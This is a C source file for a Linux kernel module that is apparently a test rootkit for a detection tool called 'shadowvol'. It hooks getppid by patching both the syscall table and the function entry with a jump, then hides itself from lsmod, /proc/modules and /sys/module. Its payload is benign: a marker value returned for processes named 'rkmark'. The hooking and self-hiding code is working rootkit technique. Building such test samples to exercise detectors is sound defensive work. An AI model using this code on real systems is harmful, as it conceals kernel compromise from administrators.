// SPDX-License-Identifier: GPL-2.0
/* Test rootkit: the culprit that hides. Hooks getppid twice, then hides:
 *  - sys_call_table[__NR_getppid] -> rk_getppid (the table, in .rodata);
 *  - the entry of __x64_sys_getppid patched with "jmp rel32" to rk_getppid
 *    (this is what takes effect on kernels that dispatch via x64_sys_call);
 *  - list_del(&THIS_MODULE->list): gone from lsmod and /proc/modules;
 *  - kobject_del(&THIS_MODULE->mkobj.kobj): gone from /sys/module.
 * Its struct module and code stay in module memory.
 *
 * Effect, visible from the guest: getppid() returns RK_MARKER in processes
 * whose comm starts with "rkmark", the real parent's pid elsewhere.
 * It cannot be unloaded: load it only in a throw-away test VM. */
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/vmalloc.h>

#include "rk_common.h"
#include "rk_marker.h"
#include <asm/syscall.h>
#include <asm/unistd.h>

#define RK_TARGET "__x64_sys_getppid"

typedef long (*rk_syscall_t)(const struct pt_regs *);
static const unsigned char rk_nop5[5] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

static int __init rk_ghost_init(void)
{
	rk_syscall_t hook = rk_getppid, orig, *table;
	unsigned char jmp[5] = { 0xe9 }, *entry;
	long rel;
	int err;

	table = (rk_syscall_t *)rk_lookup_name("sys_call_table");
	entry = (unsigned char *)rk_lookup_name(RK_TARGET);
	if (!table || !entry)
		return -ENOENT;
	if (memcmp(entry, rk_nop5, sizeof(rk_nop5)))
		return -EBUSY;
	rel = (long)rk_getppid - ((long)entry + 5);
	if (rel != (s32)rel)
		return -ERANGE;
	*(s32 *)&jmp[1] = (s32)rel;
	orig = table[__NR_getppid];
	err = rk_poke(&table[__NR_getppid], &hook, sizeof(hook));
	if (err)
		return err;
	err = rk_poke(entry, jmp, sizeof(jmp));
	if (err) {
		rk_poke(&table[__NR_getppid], &orig, sizeof(orig));
		return err;
	}
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("rk_ghost: getppid hooked at %px, hidden\n", rk_getppid);
	return 0;
}

module_init(rk_ghost_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("shadowvol test rootkit: hooks getppid, hides from the module list and sysfs");
